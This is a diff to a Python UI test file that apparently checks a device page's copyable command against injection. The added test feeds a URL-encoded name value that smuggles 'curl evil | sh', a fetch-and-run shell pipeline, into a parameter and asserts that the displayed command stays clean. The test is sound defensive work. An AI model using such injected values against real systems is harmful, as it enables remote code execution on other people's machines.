@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import re
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -168,6 +169,14 @@ def test_who_changes_their_mind_while_the_gpu_opens_leaves_no_second_device(
 def test_a_token_that_no_browser_sends_is_refused_in_words(shown: DevicePage) -> None:
     shown.open("name=page&token=two%20words")
     shown.wait("#detail", "address or token cannot be used")
+    shown.open(COMMON)
+    shown.wait_ready()
+
+
+def test_a_link_puts_nothing_into_the_command_that_people_copy(shown: DevicePage) -> None:
+    shown.open("name=a%3B%20curl%20evil%20%7C%20sh")
+    shown.wait_ready()
+    assert re.fullmatch(r"TAPML_TRACKER=\S+ tapml offload [-\w :.]+", shown.text("#how"))
     shown.open(COMMON)
     shown.wait_ready()
 
